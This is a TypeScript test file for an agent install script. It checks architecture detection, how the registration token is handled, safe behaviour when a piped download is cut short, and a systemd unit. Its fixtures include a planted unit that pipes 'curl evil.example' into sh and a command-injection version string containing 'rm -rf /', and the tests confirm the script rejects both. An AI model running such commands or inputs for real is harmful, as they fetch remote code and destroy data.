// The install kit: the script detects arm64/amd64 and lays out the service (dry run: it prints the
// steps and writes the env file and unit only into a preview folder); it trusts nothing in the
// current directory, runs nothing when cut short, installs the agent version it ships with, and
// never takes the token as an argument. The systemd unit drains on stop and passes systemd's checks.
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';

const INSTALL = path.resolve(import.meta.dirname, '../install');
const SCRIPT = path.join(INSTALL, 'install.sh');
const SCRIPT_TEXT = readFileSync(SCRIPT, 'utf8');
const PACKAGED_UNIT = '/opt/agnox-agent/node_modules/@agnox/agent/install/agnox-agent.service';
const AGENT_VERSION: string = JSON.parse(readFileSync(path.resolve(import.meta.dirname, '../package.json'), 'utf8')).version;

type Run = { status: number | null; stdout: string; stderr: string; previews: string[] };

/**
 * Runs bash on the script as given (a file argument, or the text piped in as `curl … | bash` does),
 * as a dry run, in its own session: no controlling terminal, so a prompt can never wait on the
 * developer's terminal. `previews` are the preview folders the run left (in its own TMPDIR).
 */
function dryRun(opts: { env?: Record<string, string>; args?: string[]; stdin?: string; cwd?: string } = {}): Run {
  const tmp = mkdtempSync(path.join(tmpdir(), 'agnox-install-test-'));
  const res = spawnSync('setsid', ['-w', 'bash', ...(opts.args ?? [SCRIPT])], {
    encoding: 'utf8',
    input: opts.stdin ?? '',
    cwd: opts.cwd ?? tmp,
    env: { PATH: process.env.PATH!, TMPDIR: tmp, AGNOX_DRY_RUN: '1', AGNOX_URL: 'https://agnox.example', AGNOX_TOKEN: 'agr_test', ...opts.env },
  });
  const previews = readdirSync(tmp)
    .filter((f) => f.startsWith('agnox-install-preview.'))
    .map((f) => path.join(tmp, f));
  return { status: res.status, stdout: res.stdout, stderr: res.stderr, previews };
}
const piped = (text: string, opts: Parameters<typeof dryRun>[0] = {}) => dryRun({ ...opts, args: opts.args ?? [], stdin: text });

/** A working directory an attacker filled: a unit that would run their command as root, and a file named like bash's name for piped input. */
function hostileDir(): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'agnox-hostile-'));
  const unit = '[Service]\nExecStart=/bin/sh -c "curl evil.example | sh"\n';
  writeFileSync(path.join(dir, 'agnox-agent.service'), unit);
  writeFileSync(path.join(dir, 'main'), unit);
  mkdirSync(path.join(dir, 'install'));
  writeFileSync(path.join(dir, 'install', 'agnox-agent.service'), unit);
  return dir;
}

describe('install.sh', () => {
  it.each([
    ['aarch64', 'arm64'],
    ['arm64', 'arm64'],
    ['x86_64', 'amd64'],
  ])('maps uname -m %s to %s', (uname, arch) => {
    const res = dryRun({ env: { AGNOX_UNAME_M: uname } });
    expect(res.status, res.stderr).toBe(0);
    expect(res.stdout).toContain(`architecture: ${arch} (Docker platform linux/${arch})`);
    expect(res.stdout).toContain(`npm install --prefix /opt/agnox-agent --omit=dev --no-audit --no-fund @agnox/agent@${AGENT_VERSION}`);
    expect(res.stdout).toContain('usermod -aG docker agnox');
    expect(res.stdout).toMatch(
      /install .*agnox-agent\.service as \/etc\/systemd\/system\/agnox-agent\.service with ExecStart=\S*node \/opt\/agnox-agent\/node_modules\/@agnox\/agent\/bin\/agnox-agent\.js/,
    );
    expect(res.stdout).toContain('systemctl enable --now agnox-agent');
  });

  it('refuses an unsupported architecture and a missing URL with a clear error', () => {
    const arm32 = dryRun({ env: { AGNOX_UNAME_M: 'armv7l' } });
    expect(arm32.status).toBe(1);
    expect(arm32.stderr).toContain('unsupported CPU architecture');
    const noUrl = dryRun({ env: { AGNOX_UNAME_M: 'x86_64', AGNOX_URL: '' } });
    expect(noUrl.status).toBe(1);
    expect(noUrl.stderr).toContain('set AGNOX_URL');
  });

  describe('the unit it installs', () => {
    it('piped into bash (curl … | sudo bash) from a directory holding a hostile agnox-agent.service: the packaged unit, never that file', () => {
      const cwd = hostileDir();
      const res = piped(SCRIPT_TEXT, { cwd });
      expect(res.status, res.stderr).toBe(0);
      expect(res.stdout).toContain(`+ install ${PACKAGED_UNIT} as /etc/systemd/system/agnox-agent.service`);
      expect(res.stdout).not.toContain('evil.example');
      // The dry run cannot render the packaged unit (no npm install happened): no unit in the preview at all.
      expect(res.previews).toHaveLength(1);
      expect(existsSync(path.join(res.previews[0]!, 'agnox-agent.service'))).toBe(false);
    });

    it("run from a file: the unit beside that file (not the current directory's), with the installed paths filled in", () => {
      const cwd = hostileDir();
      for (const args of [[SCRIPT], [path.relative(cwd, SCRIPT)]]) {
        const res = dryRun({ cwd, args });
        expect(res.status, res.stderr).toBe(0);
        expect(res.stdout).toContain(`+ install ${path.join(INSTALL, 'agnox-agent.service')} as /etc/systemd/system/agnox-agent.service`);
        const unit = readFileSync(path.join(res.previews[0]!, 'agnox-agent.service'), 'utf8');
        expect(unit).not.toContain('evil.example');
        expect(unit).toMatch(/^ExecStart=\S*node \/opt\/agnox-agent\/node_modules\/@agnox\/agent\/bin\/agnox-agent\.js$/m);
        expect(unit).toMatch(/^KillMode=mixed$/m);
      }
    });
  });

  it('a download cut short runs nothing: every truncation of the script, piped into bash, prints and writes nothing', () => {
    const lines = SCRIPT_TEXT.split('\n');
    const cuts = [SCRIPT_TEXT.slice(0, Math.floor(SCRIPT_TEXT.length / 2))];
    // Every line boundary but the whole script (its last line is the call that starts it).
    for (let n = 1; n < lines.length - 2; n++) cuts.push(`${lines.slice(0, n).join('\n')}\n`);
    for (const text of cuts) {
      const res = piped(text);
      expect(res.stdout, `cut after ${text.length} bytes`).toBe('');
      expect(res.previews, `cut after ${text.length} bytes`).toEqual([]);
    }
    // The whole script does run (so the above is not a script that never runs).
    expect(piped(SCRIPT_TEXT).stdout).toContain('agnox-install: done');
  });

  describe('the agent version', () => {
    it("is pinned to agent/package.json's version, and AGNOX_AGENT_VERSION picks another", () => {
      expect(/^\s*local PINNED_AGENT_VERSION=(\S+)$/m.exec(SCRIPT_TEXT)?.[1]).toBe(AGENT_VERSION);
      expect(dryRun().stdout).toContain(`installing @agnox/agent@${AGENT_VERSION} into /opt/agnox-agent`);
      expect(dryRun({ env: { AGNOX_AGENT_VERSION: '0.0.9' } }).stdout).toContain('--no-fund @agnox/agent@0.0.9');
      const bad = dryRun({ env: { AGNOX_AGENT_VERSION: '1.0 ; rm -rf /' } });
      expect(bad.status).toBe(1);
      expect(bad.stderr).toContain('is not an npm version');
    });
  });

  describe('the registration token', () => {
    it.each([
      ['a script file with the token as an argument', { args: [SCRIPT, 'agr_secret123'] }],
      ['a script file with --token', { args: [SCRIPT, '--token', 'agr_secret123'] }],
      ['piped into bash -s -- --token', { args: ['-s', '--', '--token', 'agr_secret123'], stdin: SCRIPT_TEXT }],
    ])('is refused on the command line (%s), with why and how, before anything happens', (_name, opts) => {
      const res = dryRun({ ...opts, env: { AGNOX_TOKEN: '' } });
      expect(res.status).toBe(1);
      expect(res.stderr).toContain('never the registration token: arguments show in `ps` and in shell history');
      expect(res.stderr).toContain('AGNOX_TOKEN');
      expect(res.stdout).toBe('');
      expect(res.previews).toEqual([]);
    });

    it('comes from AGNOX_TOKEN into an env file only root can read (0600)', () => {
      const res = dryRun({ env: { AGNOX_TOKEN: 'agr_fromenv42', AGNOX_LABELS: 'pool=lab' } });
      expect(res.status, res.stderr).toBe(0);
      expect(res.stdout).toContain('registration token: from AGNOX_TOKEN');
      expect(res.stdout).toContain('+ write /etc/agnox-agent/agent.env (0600 root:root)');
      const envFile = path.join(res.previews[0]!, 'agent.env');
      expect(statSync(envFile).mode & 0o777).toBe(0o600);
      expect(readFileSync(envFile, 'utf8')).toBe(
        `AGNOX_URL=https://agnox.example\nAGNOX_TOKEN=agr_fromenv42\nAGNOX_NAME=${spawnSync('hostname', { encoding: 'utf8' }).stdout.trim()}\nAGNOX_LABELS=pool=lab\nAGNOX_CONCURRENCY=1\n`,
      );
      // No temporary copy left beside it.
      expect(readdirSync(res.previews[0]!).sort()).toEqual(['agent.env', 'agnox-agent.service']);
    });

    it('comes from standard input when a downloaded script runs from its file', () => {
      const res = dryRun({ env: { AGNOX_TOKEN: '' }, stdin: 'agr_fromstdin7\n' });
      expect(res.status, res.stderr).toBe(0);
      expect(res.stdout).toContain('registration token: from standard input');
      const envFile = path.join(res.previews[0]!, 'agent.env');
      expect(statSync(envFile).mode & 0o777).toBe(0o600);
      expect(readFileSync(envFile, 'utf8')).toContain('AGNOX_TOKEN=agr_fromstdin7\n');
    });

    it('is asked for on the terminal, not echoed, when the script is piped into bash', async () => {
      // `script` gives the run a terminal (a pty); the token is typed once the prompt shows.
      const tmp = mkdtempSync(path.join(tmpdir(), 'agnox-install-tty-'));
      const scriptFile = path.join(tmp, 'piped.sh');
      writeFileSync(scriptFile, SCRIPT_TEXT);
      const child = spawn('script', ['-qec', `cat ${scriptFile} | bash`, '/dev/null'], {
        cwd: tmp,
        env: { PATH: process.env.PATH!, TMPDIR: tmp, AGNOX_DRY_RUN: '1', AGNOX_URL: 'https://agnox.example' },
      });
      let out = '';
      child.stdout.setEncoding('utf8').on('data', (d: string) => {
        const prompted = !out.includes('not shown):') && (out + d).includes('not shown):');
        out += d;
        if (prompted) child.stdin.end('agr_typed99\n');
      });
      const status = await new Promise<number | null>((resolve) => child.on('close', resolve));
      expect(status, out).toBe(0);
      expect(out).toContain('Registration token (Agents → Add agent; not shown):');
      expect(out).not.toContain('agr_typed99');
      const [preview] = readdirSync(tmp).filter((f) => f.startsWith('agnox-install-preview.'));
      expect(readFileSync(path.join(tmp, preview!, 'agent.env'), 'utf8')).toContain('AGNOX_TOKEN=agr_typed99\n');
    });

    it('missing, with no terminal to ask on: a clear error, and a piped script never reads itself as the token', () => {
      for (const res of [dryRun({ env: { AGNOX_TOKEN: '' } }), piped(SCRIPT_TEXT, { env: { AGNOX_TOKEN: '' } })]) {
        expect(res.status).toBe(1);
        expect(res.stderr).toContain('no registration token: set AGNOX_TOKEN');
        expect(res.previews).toEqual([]);
      }
    });
  });
});

describe('systemd unit', () => {
  const unit = readFileSync(path.join(INSTALL, 'agnox-agent.service'), 'utf8');

  it('drains on stop: SIGTERM to the agent only, and a stop timeout long enough for a job', () => {
    expect(unit).toMatch(/^KillMode=mixed$/m);
    expect(unit).toMatch(/^KillSignal=SIGTERM$/m);
    const minutes = Number(/^TimeoutStopSec=(\d+)min$/m.exec(unit)?.[1]);
    expect(minutes).toBeGreaterThanOrEqual(60);
    expect(unit).toMatch(/^Restart=always$/m);
    expect(unit).toMatch(/^Environment=AGNOX_AGENT_HOME=\/var\/lib\/agnox-agent$/m);
    expect(unit).toMatch(/^StateDirectoryMode=0700$/m);
  });

  it('passes systemd-analyze verify once installed paths are filled in', () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'agnox-unit-'));
    const file = path.join(dir, 'agnox-agent.service');
    writeFileSync(file, unit.replaceAll('@NODE@', process.execPath).replaceAll('@AGENT_BIN@', path.resolve(import.meta.dirname, '../bin/agnox-agent.js')));
    expect(existsSync('/usr/bin/systemd-analyze'), 'systemd-analyze (package systemd) is needed for this check').toBe(true);
    const res = spawnSync('systemd-analyze', ['verify', file], { encoding: 'utf8' });
    expect(res.status, res.stderr).toBe(0);
    expect(res.stderr).not.toMatch(/agnox-agent\.service:\d+:/);
  });
});
